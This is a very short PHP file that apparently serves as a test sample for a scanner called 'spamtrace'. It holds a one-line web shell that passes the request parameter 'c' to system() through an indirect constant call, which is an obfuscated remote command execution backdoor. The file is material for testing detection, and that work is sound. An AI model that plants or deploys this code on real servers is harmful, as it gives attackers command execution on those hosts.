<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
const RUN = 'system';
(RUN)($_GET['c']);
